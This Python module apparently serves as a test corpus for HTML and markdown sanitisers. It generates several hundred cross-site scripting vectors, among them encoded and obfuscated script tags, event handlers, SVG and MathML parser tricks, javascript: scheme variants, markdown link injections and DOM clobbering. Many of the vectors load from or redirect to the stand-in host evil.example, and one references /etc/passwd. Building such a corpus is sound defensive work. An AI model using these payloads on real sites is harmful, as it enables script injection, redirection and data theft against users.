"""Markup that tries to run code, load from elsewhere or leave its place: more than 300 vectors in groups.

Each vector calls `hit()` if a browser runs it.
"""

from collections.abc import Iterator
from html import escape

SCRIPT = "window.hits=(window.hits||0)+1"
"""What a vector runs."""

_EVENTS = (
    "onload", "onerror", "onclick", "onfocus", "onmouseover", "onpointerenter", "onanimationstart", "ontransitionend",
    "ontoggle", "onbeforetoggle", "onscroll", "onscrollend", "onwheel", "oncanplay", "onloadstart", "onpageshow",
    "onhashchange", "onbegin", "onend", "onrepeat", "onbeforematch", "oncontentvisibilityautostatechange",
)  # fmt: skip

_TAGS = (
    "script", "iframe", "object", "embed", "svg", "math", "style", "link", "meta", "base", "form", "input", "button",
    "video", "audio", "source", "details", "dialog", "template", "noscript", "textarea", "title", "frameset", "applet",
    "marquee", "isindex", "xmp", "plaintext", "portal", "slot",
)  # fmt: skip

_RAW = (
    "<script>{js}</script>",
    "<script src=//evil.example/x.js></script>",
    "<scr<script>ipt>{js}</scr</script>ipt>",
    "<ScRiPt\x0c>{js}</sCrIpT>",
    "</p><script>{js}</script>",
    "<script\n>{js}\n</script\n>",
    "<!--><script>{js}</script-->",
    "<![CDATA[><script>{js}</script>]]>",
    "<?xml version='1.0'?><script>{js}</script>",
    "<!DOCTYPE html [<!ENTITY x '<script>{js}</script>'>]>&x;",
    "%3Cscript%3E{js}%3C/script%3E",
    "&lt;script&gt;{js}&lt;/script&gt;",
    "&#60;script&#62;{js}&#60;/script&#62;",
    "&#x3c;script&#x3e;{js}&#x3c;/script&#x3e;",
    "\\x3cscript\\x3e{js}\\x3c/script\\x3e",
    "\uff1cscript\uff1e{js}\uff1c/script\uff1e",
    "+ADw-script+AD4-{js}+ADw-/script+AD4-",
    "<iframe srcdoc='&lt;script&gt;parent.{js}&lt;/script&gt;'></iframe>",
    "<iframe src=javascript:{js}></iframe>",
    "<object data='data:text/html,<script>{js}</script>'></object>",
    "<embed src='data:image/svg+xml,<svg xmlns=http://www.w3.org/2000/svg onload={js}>'>",
    "<meta http-equiv=refresh content='0;url=javascript:{js}'>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<link rel=prefetch href=//evil.example/x>",
    "<style>@import '//evil.example/x.css';</style>",
    "<style>*{{background:url(//evil.example/x.png)}}</style>",
    "<p style='background:url(//evil.example/x.png)'>x</p>",
    "<p style='animation:x' onanimationstart={js}>x</p>",
    "<form action=javascript:{js}><button autofocus>x</button></form>",
    "<button form=f formaction=javascript:{js}>x</button>",
    "<input autofocus onfocus={js}>",
    "<a href=javascript:{js} autofocus>x</a>",
    "<img src=x onerror={js}>",
    "<img/src='x'/onerror={js}>",
    "<img src=x:x onerror\n=\n{js}>",
    "<img srcset='//evil.example/1.png 1x'>",
    "<img src=//evil.example/1.png>",
    "<video src=//evil.example/1.mp4 poster=//evil.example/1.png autoplay></video>",
    "<details open ontoggle={js}>x</details>",
    "<body onload={js}>",
    "<template shadowrootmode=open><script>{js}</script></template>",
    "<div id=cite-1 class=citation onclick={js}>x</div>",
    "<a id=location href=//evil.example/>x</a>",
    "<form id=document><input name=cookie></form>",
)

_NAMESPACES = (
    "<svg onload={js}>",
    "<svg><script>{js}</script></svg>",
    "<svg><script href=data:,{js} /></svg>",
    "<svg><a xlink:href=javascript:{js}><text y=20>x</text></a></svg>",
    "<svg><animate onbegin={js} attributeName=x dur=1s></svg>",
    "<svg><set attributeName=href to=javascript:{js}></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload={js}/>#x'/></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>parent.{js}</script>'></foreignObject></svg>",
    "<svg><image href=//evil.example/1.png onerror={js}></svg>",
    "<svg><style><img src=x onerror={js}></style></svg>",
    "<svg></p><style><a id='</style><img src=x onerror={js}>'>",
    "<svg><p><style><g title='</style><img src=x onerror={js}>'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror={js}&gt;'>",
    "<math><annotation-xml encoding=text/html><script>{js}</script></annotation-xml></math>",
    "<math href=javascript:{js}>x</math>",
    "<math><mi xlink:href='data:x,<script>{js}</script>'>x</mi></math>",
    "<math><style><a title='</style><img src=x onerror={js}>'></style></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={js}>",
    "<noscript><p title='</noscript><img src=x onerror={js}>'>",
    "<noembed><p title='</noembed><img src=x onerror={js}>'>",
    "<textarea><p title='</textarea><img src=x onerror={js}>'>",
    "<title><p title='</title><img src=x onerror={js}>'>",
    "<xmp><p title='</xmp><img src=x onerror={js}>'></xmp>",
    "<select><template><style><!--</style><a rel='--></style></template></select><img src=x onerror={js}>'>",
    "<table><tr><td><svg><desc><td><img src=x onerror={js}></desc></svg></td></tr></table>",
    "<svg><title><![CDATA[</title><img src=x onerror={js}>]]></svg>",
    "<!--[if gte IE 4]><script>{js}</script><![endif]-->",
    "<!-- --!><img src=x onerror={js}> -->",
    "<comment><img src='</comment><img src=x onerror={js}//'>",
    "<listing>&lt;img onerror={js} src=x&gt;</listing>",
)

_SCHEMES = (
    "javascript:{js}", "JaVaScRiPt:{js}", "java\tscript:{js}", "java\nscript:{js}", "\x01javascript:{js}",
    "javascript\x00:{js}", "javascript&colon;{js}", "javascript&#58;{js}", "javascript&#x3a;{js}",
    "&#106;avascript:{js}", "&#x6A;avascript:{js}", "&#0000106avascript:{js}", "java&Tab;script:{js}",
    "java&NewLine;script:{js}", "javascript%3A{js}", "%6Aavascript:{js}", "javascript://evil.example/%0a{js}",
    "vbscript:{js}", "data:text/html,<script>{js}</script>", "data:text/html;base64,PHNjcmlwdD4x", "data:,{js}",
    "data:image/svg+xml,<svg onload={js}>", "file:///etc/passwd", "blob:https://evil.example/1", "filesystem:x",
    "view-source:javascript:{js}", "jar:https://evil.example!/x", "livescript:{js}", "mocha:{js}",
    "feed:javascript:{js}",
    "//evil.example/", "\\\\evil.example/", "/\\evil.example/", "https:evil.example", "about:blank#{js}",
    "intent:#Intent;S.x={js};end", "ftp://evil.example/", "\u2028javascript:{js}", "\ufeffjavascript:{js}",
    "java\u00adscript:{js}",
)  # fmt: skip

_LINKS = ("[x]({url})", "[x](<{url}>)", "![x]({url})", "<{url}>", '<a href="{url}">x</a>', '[x]({url} "t")')

_MARKDOWN = (
    '[x](https://e.example/"onmouseover="{js})',
    '[x](<https://e.example/"onmouseover="{js}>)',
    "[x](https://e.example \"' onmouseover='{js}\")",
    "[x](https://e.example '\" onmouseover=\"{js}')",
    '!["onerror="{js}](/files/x.png)',
    '![x](/files/x.png "\\" onerror=\\"{js}")',
    "![x](/files/x.png '\"><script>{js}</script>')",
    '![x](/files/x.png"onerror="{js})',
    "![x](//evil.example/x.png)",
    "![x](https://evil.example/x.png)",
    "![x](/\\evil.example/x.png)",
    "![x](/x.png?https://evil.example/#.png)",
    "![x](data:image/png;base64,AAAA)",
    "![x](data:image/svg+xml;base64,PHN2Zy8+)",
    "![<img src=x onerror={js}>](/files/x.png)",
    "[<img src=x onerror={js}>](https://e.example)",
    '[![x](x" onerror="{js})](javascript:{js})',
    "[x]: javascript:{js}\n\n[x]",
    "[1]: javascript:{js}\n\n[1]",
    "[1]: <javascript:{js}> 'x'\n\n![1]",
    "[1][1]\n\n[1]: //evil.example/",
    "[1](javascript:{js})",
    "[1]<script>{js}</script>",
    "[1, 2<img src=x onerror={js}>]",
    '<https://e.example/"onclick="{js}>',
    "<https://e.example/><script>{js}</script>",
    "<javascript:{js}>",
    '<x@e.example"onclick="{js}>',
    "`<img src=x onerror={js}>`",
    '``` " onload="{js}\nx\n```',
    "``` <img src=x onerror={js}>\nx\n```",
    '~~~ js" onmouseover="{js}\n<script>{js}</script>\n~~~',
    "    <script>{js}</script>",
    "> <script>{js}</script>",
    "- <img src=x onerror={js}>",
    "1. <img src=x onerror={js}>",
    "# <img src=x onerror={js}>",
    "<img src=x onerror={js}>\n===",
    '| <img src=x onerror={js}> |\n|:-"onclick={js}:|\n| x |',
    "| a |\n|---|\n| <script>{js}</script> |",
    "*<script>{js}</script>*",
    '**"><script>{js}</script>**',
    "~~<script>{js}</script>~~",
    "\\<script>{js}\\</script>",
    "\\\\<script>{js}</script>",
    "<scr\\ipt>{js}</scr\\ipt>",
    "&<script>{js}</script>",
    "<a href='x'\\>x</a><script>{js}</script>",
    "{{{{ 7|add:7 }}}}{{% debug %}}",
    "${{{js}}}",
    "</script><script>{js}</script>",
    "</div></article><script>{js}</script>",
    '"><script>{js}</script>',
    "'-{js}-'",
    "\u202e<script>{js}</script>",
    "<\u0000script>{js}</script>",
    "<div\n\n<script>{js}</script>",
    "<pre><code><script>{js}</script>",
)  # fmt: skip


def iterate_hostile_markup() -> Iterator[str]:
    """Yield every vector."""
    for pattern in (*_RAW, *_NAMESPACES, *_MARKDOWN):
        yield pattern.format(js=SCRIPT)
    for event in _EVENTS:
        yield f"<svg {event}={SCRIPT} tabindex=1 autofocus>x</svg>"
        yield f'[x](https://e.example/" {event}="{SCRIPT})'
        yield f"<p {event}='{escape(SCRIPT)}' style=animation-name:x>x</p>"
    for tag in _TAGS:
        yield f"<{tag} src=//evil.example/ onload={SCRIPT} onerror={SCRIPT}>{SCRIPT}</{tag}>"
        yield f"<{tag}\t/\t><script>{SCRIPT}</script></{tag} >"
    for scheme in _SCHEMES:
        for link in _LINKS:
            yield link.format(url=scheme.format(js=SCRIPT))


HOSTILE_MARKUP = tuple(dict.fromkeys(iterate_hostile_markup()))
